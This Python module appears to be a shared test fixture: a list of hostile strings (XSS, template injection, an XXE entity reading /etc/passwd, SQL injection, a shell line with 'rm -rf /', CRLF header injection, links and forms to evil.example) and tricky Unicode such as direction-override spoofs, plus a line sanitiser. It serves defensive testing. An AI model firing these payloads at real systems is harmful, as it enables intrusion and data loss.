"""Text that people send and programs stumble over: shared by whatever shows text to people.

`XSS` tries to become markup, script, style, a template or a header; `UNICODE` is hard to show, to cut or to compare.
None has characters the API refuses everywhere (half surrogate pairs); `one_line` says which are refused in one line.
"""

# ruff: noqa: RUF001 - they are meant to look so
from __future__ import annotations

import re
import unicodedata

XSS = (
    # tags
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='https://evil.example'>Approve</a>",
    "<form action=//evil.example><input name=page></form>",
    "</form><form method=post action=//evil.example>",
    "<button name=answer value=approve>Approve</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<marquee>x</marquee>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<x" + " a" * 50 + ">",
    # out of where text stands
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)' x='",
    "x onclick=alert(1)",
    "` onclick=alert(1) `",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</bdi></p></main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &nbsp; &quot; &apos; &copy",
    "&#x0;&#xD800;&#1114112;&bogus;",
    # other tongues
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "{{ 7 * 7 }}",
    "{{ config.items() }} {{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# a comment #}",
    "{%- raw -%}{{ x }}{%- endraw -%}",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]] *{7*7}",
    "%s %d %(name)s {0} {name} {0.__class__}",
    "$(touch /tmp/x) `id` ; rm -rf / | cat & true",
    "'; DROP TABLE requests; --",
    '=HYPERLINK("//evil.example";"Approve")',
    "**bold** _it_ ~~no~~ [Approve](https://evil.example) ![x](//evil.example/x.png) <https://evil.example>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "expression(alert(1)); background:url(//evil.example)",
)

UNICODE = (
    # every length in UTF-8, and what lies at the ends
    "Zoë",
    "Zoe\u0308",
    "naïve café – “quoted” … ¿qué?",
    "\u07ff\u0800\ufffd\U00010000\U0010ffff",
    "日本語のテキスト",
    "中文字符，全角标点。",
    "한국어 텍스트",
    "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "ไทยไม่มีวรรคระหว่างคำ",
    "हिन्दी में पाठ क्षि",
    "தமிழ் எழுத்து",
    "עברית 123 עם מספרים",
    "طلب حاسوب محمول ABC ١٢٣",
    "فارسی با نیم\u200cفاصله",
    "ქართული Հայերեն Ελληνικά Русский",
    "ⲕⲏⲙⲉ 𓂀𓆣 𐍈 𒀀",
    # emoji, joined and coloured
    "👍 👍🏽 👎🏿",
    "👩‍👩‍👧‍👦 👨🏿‍🦽 🏳️‍🌈",
    "🇺🇳🇨🇭🇯🇵",
    "1️⃣ ☎️ ☎︎",
    # combining
    "a" + "\u0301" * 40,
    "Z\u0351\u036b\u0343a\u0328\u0300l\u0489g\u0360o\u0321",
    "\u0301 begins with a mark",
    "ẛ̣ ﬁ Å Å Ω",
    # look-alikes and case
    "аdmin (Cyrillic а)",
    "ｆｕｌｌｗｉｄｔｈ ＜ｓｃｒｉｐｔ＞",
    "﹤script﹥ ‹script› ≺script≻",
    "ΑΒΕ versus ABE",
    "Straße STRASSE ẞ",
    "İstanbul ıstanbul I i",
    "ǅ ǆ Ǆ ŉ ﬀ ΐ",
    "𝕋𝕙𝕖 𝒬𝓊𝒾𝒸𝓀 𝐁𝐫𝐨𝐰𝐧 🅵🅾🆇",
    # blanks of many kinds
    "no\u00a0break thin\u2009space ideographic\u3000space",
    "\u2800braille blank\u2800",
    "\u3164filler\u3164",
    "ogham\u1680space em\u2003space",
    # direction, and what is not seen (prose only: one line refuses them)
    "\u202eevil\u202c gpj.exe",
    "\u2066isolated\u2069 \u2067rtl\u2069",
    "left\u200eright\u200fmark \u061cletter",
    "soft\u00adhyphen zero\u200bwidth word\u2060joiner",
    "\ufeffbyte order mark",
    "tags\U000e0001\U000e0061\U000e007f",
    "annotation\ufff9a\ufffab\ufffb",
    # odd ends
    "private \ue000 use \U000f0000",
    "variation a\ufe00 \U000e0100",
    "noncharacters \ufdd0 \ufffe",
    "tab\tand\nnew line\n\n\nthree",
    "  blanks  within    and   around  ",
    "x" * 100 + "\u00ad" + "y" * 100,
    "W" * 150,
    "ﷺ﷽",
    "\u2126\u212a\u212b",
)

REFUSED_IN_A_LINE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u2028\u2029\u00ad\u180e\u200b\u2060-\u2064\ufeff\ufff9-\ufffb\U000e0001\U000e0020-\U000e007f"
    "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


def one_line(text: str, most: int = 200) -> str:
    """Give what of a text may stand in one line of the API: without what it refuses there, and as it keeps it."""
    return unicodedata.normalize("NFC", REFUSED_IN_A_LINE.sub(" ", text)).strip()[:most].strip()
